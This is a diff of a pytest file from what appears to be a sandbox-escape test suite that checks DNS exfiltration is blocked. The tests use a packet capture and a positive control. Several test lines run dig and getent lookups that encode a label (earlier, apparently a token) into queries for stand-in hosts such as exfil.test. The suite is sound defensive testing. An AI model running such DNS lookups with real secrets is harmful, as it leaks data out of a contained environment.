@@ -8,9 +8,14 @@ pinned to it with the bottle's extra_hosts; its CA is the route's upstream_ca.
 
 from __future__ import annotations
 
+import socket
+import time
+import uuid
+
 import pytest
 
 from tests.escape.conftest import ROUTE_TOKEN, SECRETS, Bottle
+from tests.escape.outside import Capture
 
 pytestmark = pytest.mark.docker
 
@@ -125,18 +130,37 @@ def test_planted_secret_is_blocked(bottle: Bottle, where: str) -> None:
 
 
 def test_dns_exfiltration_through_the_resolver(bottle: Bottle) -> None:
-    code, out = bottle.sh(f"dig +time=2 +tries=1 {GH.lower()}.other.test")
+    label = f"exfil{uuid.uuid4().hex}"
+    with Capture() as cap:
+        code, out = bottle.sh(f"dig +time=2 +tries=1 {label}.other.test")
+        code2, out2 = bottle.sh(f"getent hosts {label}.example.com")
     assert code != 0 or "NOERROR" not in out, out
+    assert code2 != 0, out2
     assert bottle.outside.dns_queries == []
+    assert not cap.seen(label.encode()), "the lookup left the bottle"
+    assert cap.frames, "the capture saw no traffic at all: it is not working"
 
 
 def test_dns_query_straight_to_a_host_server(bottle: Bottle) -> None:
     gw = bottle.outside.host
-    for extra in ("", "+tcp"):
-        code, out = bottle.sh(f"dig {extra} +time=2 +tries=1 @{gw} {GH.lower()}.exfil.test")
-        assert code != 0, out
+    label = f"exfil{uuid.uuid4().hex}"
+    with Capture() as cap:
+        for extra in ("", "+tcp"):
+            code, out = bottle.sh(f"dig {extra} +time=2 +tries=1 @{gw} {label}.exfil.test")
+            assert code != 0, out
     assert bottle.outside.dns_queries == []
     assert not [c for c in bottle.outside.connections if c.startswith("53 ")]
+    assert not cap.seen(label.encode()), "the query left the bottle"
+    # Positive control: the same server and capture do see a query sent from the host.
+    control = f"control{uuid.uuid4().hex}".encode()
+    with Capture() as cap, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+        udp.sendto(b"\x00\x01" + control, (gw, 53))
+        deadline = time.monotonic() + 5
+        while not bottle.outside.dns_queries and time.monotonic() < deadline:
+            time.sleep(0.05)
+    assert cap.seen(control)
+    assert any(control in q for q in bottle.outside.dns_queries)
+    bottle.outside.dns_queries.clear()
 
 
 # -- 5. git push of a secret through git-gate ---------------------------------------------
